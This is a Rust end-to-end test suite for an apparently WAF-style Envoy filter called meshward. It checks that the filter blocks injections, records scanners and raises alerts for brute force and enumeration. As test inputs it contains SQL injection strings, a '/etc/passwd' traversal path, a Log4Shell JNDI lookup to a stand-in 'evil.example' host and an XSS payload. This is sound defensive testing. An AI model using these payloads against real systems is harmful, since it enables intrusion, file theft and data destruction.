//! Issue 6 end to end in a real Envoy: blocked injections get the specified 403, body
//! threats are blocked (with held headers the upstream sees nothing), scanners are
//! recorded, behavioural alerts fire once per window for scripted scanning, brute
//! force and enumeration, and state stays bounded with 100k distinct actors.

use meshward_e2e::client::{agent, get, post_json, send_on};
use meshward_e2e::envoy::{Envoy, EnvoyOptions};
use meshward_e2e::sink::Sink;
use meshward_e2e::upstream::{Answer, Upstream};
use serde_json::json;
use std::sync::Arc;
use std::time::Duration;

fn upstream() -> Upstream {
    Upstream::start(Arc::new(|req| {
        let path = req.url.split('?').next().unwrap_or("");
        if path == "/login" {
            return Answer::json(401, r#"{"error":"bad credentials"}"#);
        }
        if let Some(id) = path.strip_prefix("/users/") {
            return Answer::json(200, &format!(r#"{{"id":"{id}","plan":"gold"}}"#));
        }
        if path == "/search" || path == "/notes" {
            return Answer::json(200, r#"{"ok":true}"#);
        }
        Answer::json(404, r#"{"error":"not found"}"#)
    }))
}

fn start_with(
    cfg: serde_json::Value,
    up: &Upstream,
    sink: &Sink,
    opts: impl FnOnce(EnvoyOptions) -> EnvoyOptions,
) -> Envoy {
    let mut cfg = cfg;
    cfg["events"] = json!({"cluster": "outbound|4318||collector.local", "format": "ndjson",
                           "flush_interval": "200ms"});
    Envoy::start(&opts(
        EnvoyOptions::new(&cfg.to_string(), up.port, sink.port).concurrency(2),
    ))
    .unwrap_or_else(|e| panic!("Envoy did not start: {}", e.log))
}

fn start(cfg: serde_json::Value, up: &Upstream, sink: &Sink) -> Envoy {
    start_with(cfg, up, sink, |o| o)
}

#[test]
fn injections_are_blocked_with_the_specified_answer() {
    let up = upstream();
    let sink = Sink::start();
    let envoy = start(json!({"mode": "enforce"}), &up, &sink);
    let r = get(
        &envoy.url("/search?q=1%27%20OR%20%271%27%3D%271"),
        &[("x-request-id", "t-1")],
    );
    assert_eq!(r.status, 403);
    assert_eq!(
        r.json(),
        json!({"error": "forbidden", "reason": "threat", "rule": "sqli", "threat": "sqli", "request_id": "t-1"})
    );
    let r = get(&envoy.url("/files/..%2f..%2f..%2fetc%2fpasswd"), &[]);
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["threat"], "path_traversal");
    let r = get(
        &envoy.url("/search"),
        &[("user-agent", "${jndi:ldap://evil.example/a}")],
    );
    assert_eq!(r.json()["threat"], "jndi");
    // In the body: the request goes on to the upstream first (headers are not held by
    // default), then is answered and reset.
    let r = post_json(
        &envoy.url("/notes"),
        &[("x-request-id", "t-2")],
        r#"{"text":"<svg/onload=alert(1)>"}"#,
    );
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["threat"], "xss");
    // Benign look-alikes pass.
    for q in [
        "O%27Brien",
        "select%20a%20plan",
        "1%2B1%3D2",
        "https%3A%2F%2Fexample.com%2Fa",
    ] {
        let r = get(&envoy.url(&format!("/search?q={q}")), &[]);
        assert_eq!(r.status, 200, "{q} must pass: {}", r.body);
    }
    // The two requests may be served by different workers, which flush separately.
    let recs = sink.wait_records(Duration::from_secs(10), |r| {
        ["t-1", "t-2"]
            .iter()
            .all(|id| r.iter().any(|x| x["request_id"] == *id))
    });
    let t1 = recs.iter().find(|r| r["request_id"] == "t-1").unwrap();
    assert_eq!(t1["action"], "blocked");
    assert_eq!(
        t1["threats"],
        json!([{"type": "sqli", "where": "query", "action": "block"}])
    );
    let t2 = recs.iter().find(|r| r["request_id"] == "t-2").unwrap();
    assert_eq!(t2["threats"][0]["where"], "body");
    assert_eq!(
        envoy.metric(r#"meshward_threats_total{type="sqli",action="block"}"#),
        1.0
    );
    assert!(envoy.vm_failures().is_empty());
}

#[test]
fn with_held_headers_a_blocked_body_never_reaches_the_upstream() {
    let up = upstream();
    let sink = Sink::start();
    let envoy = start_with(
        json!({"mode": "enforce", "inspection": {"hold_headers": true}}),
        &up,
        &sink,
        EnvoyOptions::allow_stop_iteration,
    );
    let r = post_json(
        &envoy.url("/notes"),
        &[],
        r#"{"text":"1; DROP TABLE users--"}"#,
    );
    assert_eq!(r.status, 403, "{}", r.body);
    assert_eq!(r.json()["threat"], "sqli");
    let r = post_json(
        &envoy.url("/notes"),
        &[],
        r#"{"text":"please drop me a line"}"#,
    );
    assert_eq!(r.status, 200);
    let seen = up.seen();
    assert_eq!(seen.len(), 1, "only the benign note reached the upstream");
    assert!(String::from_utf8_lossy(&seen[0].body).contains("drop me a line"));
}

#[test]
fn scanners_are_recorded_and_exemptions_apply() {
    let up = upstream();
    let sink = Sink::start();
    let envoy = start(
        json!({"mode": "enforce", "detection": {"allow": [
            {"name": "search-may-quote-sql", "families": ["sqli"], "when": {"paths": ["/search"]}}]}}),
        &up,
        &sink,
    );
    let r = get(
        &envoy.url("/users/1"),
        &[
            ("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            ("x-request-id", "s-1"),
        ],
    );
    assert_eq!(r.status, 200, "scanners: alert by default");
    let r = get(&envoy.url("/search?q=1%27%20OR%20%271%27%3D%271"), &[]);
    assert_eq!(r.status, 200, "exempted by detection.allow");
    let recs = sink.wait_records(Duration::from_secs(10), |r| {
        r.iter().any(|x| x["request_id"] == "s-1")
    });
    let s1 = recs.iter().find(|r| r["request_id"] == "s-1").unwrap();
    assert_eq!(
        s1["threats"],
        json!([{"type": "scanner", "where": "header", "action": "alert"}])
    );
    assert_eq!(
        envoy.metric(r#"meshward_threats_total{type="scanner",action="alert"}"#),
        1.0
    );
}

#[test]
fn behavioural_alerts_fire_once_per_window() {
    let up = upstream();
    let sink = Sink::start();
    let envoy = start(
        json!({"detection": {"behavior": {
            "not_found_burst": {"count": 10, "distinct_paths": 8, "per": "5m"},
            "auth_failure_burst": {"count": 5, "per": "5m", "action": "block"},
            "enumeration": {"distinct_ids": 30, "per": "5m"}
        }}, "mode": "enforce"}),
        &up,
        &sink,
    );
    let a = agent();
    // Scripted path scanning: 20 distinct missing paths.
    for i in 0..20 {
        let r = send_on(
            &a,
            "GET",
            &envoy.url(&format!("/backup-{i}.zip")),
            &[],
            None,
        )
        .unwrap();
        assert_eq!(r.status, 404);
    }
    // Object walking: 50 distinct user ids.
    for i in 0..50 {
        send_on(
            &a,
            "GET",
            &envoy.url(&format!("/users/{}", 1000 + i)),
            &[],
            None,
        )
        .unwrap();
    }
    // Brute force: 8 failed logins, blocked once the burst is seen.
    let mut statuses = Vec::new();
    for _ in 0..8 {
        let r = send_on(
            &a,
            "POST",
            &envoy.url("/login"),
            &[("content-type", "application/json")],
            Some(b"{}"),
        )
        .unwrap();
        statuses.push(r.status);
    }
    assert_eq!(&statuses[..5], &[401; 5]);
    assert!(
        statuses[5..].iter().all(|s| *s == 403),
        "blocked after the burst: {statuses:?}"
    );
    let r = send_on(&a, "GET", &envoy.url("/users/1"), &[], None).unwrap();
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["reason"], "behavior");
    assert_eq!(r.json()["rule"], "auth_failure_burst");
    let recs = sink.wait_records(Duration::from_secs(10), |r| {
        r.iter().filter(|x| x["kind"] == "alert").count() >= 3
    });
    std::thread::sleep(Duration::from_millis(500));
    let recs = if sink.records().len() > recs.len() {
        sink.records()
    } else {
        recs
    };
    let alerts: Vec<&serde_json::Value> = recs.iter().filter(|r| r["kind"] == "alert").collect();
    let names: Vec<&str> = alerts
        .iter()
        .map(|a| a["alert"].as_str().unwrap())
        .collect();
    for want in ["not_found_burst", "enumeration", "auth_failure_burst"] {
        assert_eq!(
            names.iter().filter(|n| **n == want).count(),
            1,
            "{want} once: {names:?}"
        );
    }
    let nf = alerts
        .iter()
        .find(|a| a["alert"] == "not_found_burst")
        .unwrap();
    assert_eq!(nf["actor"]["ip"], "127.0.0.1");
    assert_eq!(nf["window"], "5m");
    assert_eq!(
        envoy.metric(r#"meshward_alerts_total{alert="enumeration"}"#),
        1.0
    );
    meshward_e2e::schema::validate_records(&recs).unwrap_or_else(|e| panic!("{e}"));
}

#[test]
fn state_stays_bounded_with_100k_distinct_actors() {
    let up = upstream();
    let sink = Sink::start();
    // Forwarded addresses are trusted here, so every request is a distinct actor.
    let envoy = start(
        json!({"identity": {"trust_forwarded_ip": true},
               "detection": {"behavior": {"not_found_burst": {"count": 2, "distinct_paths": 1}, "max_actors": 1000}},
               "rate_limits": [{"name": "per-ip", "key": "source_ip", "max_keys": 1000,
                                "limit": {"requests": 5, "per": "1m"}}]}),
        &up,
        &sink,
    );
    let url = Arc::new(envoy.url("/missing"));
    let send_range = |from: u32, to: u32| {
        let handles: Vec<_> = (0..4u32)
            .map(|t| {
                let url = url.clone();
                std::thread::spawn(move || {
                    let a = agent();
                    for i in (from + t..to).step_by(4) {
                        let ip = format!("10.{}.{}.{}", (i >> 16) & 255, (i >> 8) & 255, i & 255);
                        send_on(&a, "GET", &url, &[("x-forwarded-for", &ip)], None).unwrap();
                    }
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
    };
    send_range(0, 20_000);
    let warm = envoy.rss_kib();
    send_range(20_000, 100_000);
    let end = envoy.rss_kib();
    assert!(
        end < warm + 16 * 1024,
        "resident memory grew from {warm} kB to {end} kB after 80k more actors"
    );
    assert_eq!(
        envoy.metric(r#"meshward_internal_errors_total{where="shared_data"}"#),
        0.0
    );
    assert!(envoy.vm_failures().is_empty());
    println!("RSS after 20k actors: {warm} kB, after 100k: {end} kB");
}
